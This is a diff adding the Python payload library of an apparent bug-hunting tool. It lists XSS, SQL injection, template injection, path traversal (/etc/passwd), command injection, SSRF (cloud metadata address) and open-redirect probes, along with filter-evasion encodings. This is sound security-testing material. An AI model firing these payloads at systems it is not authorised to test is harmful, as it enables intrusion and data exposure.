@@ -0,0 +1,199 @@
+"""
+Payload library for Parameter Bug Hunter Pro
+"""
+
+import re
+import html
+import itertools
+from pathlib import Path
+from urllib.parse import quote, unquote
+
+
+class PayloadLibrary:
+    """Base payloads per vulnerability class, with lazily generated variants
+
+    Nothing is materialised up front: ``stream()`` walks the base payloads
+    that fit a context and yields encoding/mutation variants on demand,
+    breadth first (every base payload before any variant), so a tester that
+    stops at the first confirmed payload never generates the rest. Variants
+    that come out identical to something already yielded (e.g. URL-encoding
+    a payload with nothing to encode) are skipped.
+
+    Templates may contain ``{c}``, to be replaced by a canary per request.
+    Custom payloads live in ``~/.parameter_hunter/payloads/<class>.txt`` as
+    ``context<TAB>template`` (or just ``template``) lines.
+    """
+
+    BASE = {
+        'xss': {
+            'html': ['<svg/onload=alert("{c}")>', '<img src=x onerror=alert("{c}")>',
+                     '<details open ontoggle=alert("{c}")>'],
+            'attribute': ['"><svg/onload=alert("{c}")>', "'><svg/onload=alert('{c}')>",
+                          '" autofocus onfocus=alert("{c}") x="'],
+            'script': ["';alert('{c}');//", '";alert("{c}");//', '</script><svg/onload=alert("{c}")>'],
+            'json': ['"><svg/onload=alert("{c}")>'],
+        },
+        'sqli': {
+            'string': ["'", "''", "' OR '1'='1", "' AND '1'='2"],
+            'numeric': ["1 AND 1=1", "1 AND 1=2", "1'"],
+        },
+        'ssti': {
+            'any': ["{{7*7}}{c}", "${{7*7}}{c}", "<%= 7*7 %>{c}", "#{{7*7}}{c}"],
+        },
+        'path_traversal': {
+            'any': ["../../../../etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "/etc/passwd"],
+        },
+        'open_redirect': {
+            'any': ["https://{c}.example.com/", "//{c}.example.com/", "/\\{c}.example.com/"],
+        },
+        'command_injection': {
+            'any': [";echo {c}", "|echo {c}", "$(echo {c})", "`echo {c}`"],
+        },
+        'ssrf': {
+            'any': ["http://127.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://[::1]/"],
+        },
+    }
+
+    # Variant generators applicable to each class, cheapest and most likely first
+    MUTATIONS = {
+        'xss': ['case', 'url', 'html_entities', 'double_url'],
+        'sqli': ['comment_space', 'url'],
+        'ssti': ['url'],
+        'path_traversal': ['url', 'double_url', 'dot_slash', 'null_byte'],
+        'open_redirect': ['url'],
+        'command_injection': ['ifs_space', 'url'],
+        'ssrf': ['decimal_ip'],
+    }
+
+    # classify_by_type categories mapped to the classes worth testing
+    CATEGORY_CLASSES = {
+        'Authentication': ['sqli'],
+        'Business Logic': ['sqli'],
+        'File Operations': ['path_traversal', 'command_injection'],
+        'Debug/Admin': ['command_injection', 'ssti'],
+        'Search/Filter': ['xss', 'sqli', 'ssti'],
+        'Miscellaneous': ['open_redirect', 'ssrf', 'xss'],
+        'Unknown': ['xss', 'sqli'],
+    }
+
+    CUSTOM_DIR = Path.home() / ".parameter_hunter" / "payloads"
+
+    def __init__(self, custom_dir=None):
+        self.custom_dir = Path(custom_dir) if custom_dir else self.CUSTOM_DIR
+        self._custom = None
+
+    @staticmethod
+    def mutate(payload, mutation):
+        """Apply one named mutation to a payload"""
+        if mutation == 'url':
+            return quote(payload, safe='{}')
+        if mutation == 'double_url':
+            return quote(quote(payload, safe='{}'), safe='{}')
+        if mutation == 'html_entities':
+            return ''.join(f"&#{ord(ch)};" if ch in '<>"\'' else ch for ch in payload)
+        if mutation == 'case':
+            # Alternate the case of tag and handler names, not the canary
+            return re.sub(r"(?<=<)[a-z]+|on[a-z]+(?==)",
+                          lambda m: ''.join(ch.upper() if i % 2 else ch for i, ch in enumerate(m.group(0))), payload)
+        if mutation == 'comment_space':
+            return payload.replace(' ', '/**/')
+        if mutation == 'ifs_space':
+            return payload.replace(' ', '${IFS}')
+        if mutation == 'dot_slash':
+            return payload.replace('../', '....//').replace('..\\', '....\\\\')
+        if mutation == 'null_byte':
+            return payload + '%00' if payload.startswith(('.', '/')) else payload
+        if mutation == 'decimal_ip':
+            return payload.replace('127.0.0.1', '2130706433').replace('169.254.169.254', '2852039166')
+        raise ValueError(f"Unknown mutation: {mutation}")
+
+    def custom(self):
+        """``{class: {context: [templates]}}`` loaded from the custom directory"""
+        if self._custom is None:
+            self._custom = {}
+            if self.custom_dir.is_dir():
+                for path in sorted(self.custom_dir.glob("*.txt")):
+                    with open(path, 'r', errors='replace') as f:
+                        for line in f:
+                            line = line.rstrip('\n')
+                            if not line or line.startswith('#'):
+                                continue
+                            context, tab, template = line.partition('\t')
+                            if not tab:
+                                context, template = 'any', line
+                            self._custom.setdefault(path.stem, {}).setdefault(context, []).append(template)
+        return self._custom
+
+    def classes(self):
+        return sorted(set(self.BASE) | set(self.custom()))
+
+    def contexts(self, vuln_class):
+        return sorted(set(self.BASE.get(vuln_class, {})) | set(self.custom().get(vuln_class, {})))
+
+    def base(self, vuln_class, contexts=None):
+        """Yield ``(context, template)`` for the class, built-in before custom"""
+        for source in (self.BASE.get(vuln_class, {}), self.custom().get(vuln_class, {})):
+            for context, templates in source.items():
+                if contexts is None or context in contexts or context == 'any':
+                    for template in templates:
+                        yield context, template
+
+    def stream(self, vuln_class, contexts=None, limit=None):
+        """Yield unique ``(context, mutation, template)`` tuples lazily
+
+        Round 0 yields every base payload, round ``k`` applies the k-th
+        mutation of the class to each of them, so cheap and likely payloads
+        always come first.
+        """
+        def generate():
+            seen = set()
+            for mutation in [None] + self.MUTATIONS.get(vuln_class, []):
+                for context, template in self.base(vuln_class, contexts):
+                    variant = template if mutation is None else self.mutate(template, mutation)
+                    if variant in seen:
+                        continue
+                    seen.add(variant)
+                    yield context, mutation or 'none', variant
+
+        return itertools.islice(generate(), limit)
+
+    def classes_for(self, category=None, contexts=None):
+        """Classes worth testing for a classification category or reflection"""
+        classes = list(self.CATEGORY_CLASSES.get(category, self.CATEGORY_CLASSES['Unknown']))
+        if contexts and 'xss' not in classes:
+            # A reflecting parameter is always an XSS candidate
+            classes.insert(0, 'xss')
+        return classes
+
+    def select(self, category=None, contexts=None, per_class=None):
+        """Stream ``(class, context, mutation, template)`` that fit a parameter"""
+        for vuln_class in self.classes_for(category, contexts):
+            for context, mutation, template in self.stream(vuln_class, (contexts or None) if vuln_class == 'xss' else None, per_class):
+                yield vuln_class, context, mutation, template
+
+    def add(self, vuln_class, templates, context='any'):
+        """Append new templates to the custom store, returns how many were new"""
+        existing = {template for _, template in self.base(vuln_class)}
+        new = []
+        for template in templates:
+            template = template.strip('\r\n')
+            if template and '\t' not in template and template not in existing:
+                existing.add(template)
+                new.append(template)
+        if new:
+            self.custom_dir.mkdir(parents=True, exist_ok=True)
+            with open(self.custom_dir / f"{vuln_class}.txt", 'a') as f:
+                for template in new:
+                    f.write(f"{context}\t{template}\n")
+            self._custom = None
+        return len(new)
+
+    @staticmethod
+    def render(template, canary=""):
+        """Fill in the canary without tripping over other braces"""
+        return template.replace('{c}', canary)
+
+    @staticmethod
+    def decode(payload):
+        """What a payload looks like after URL and entity decoding"""
+        return html.unescape(unquote(unquote(payload)))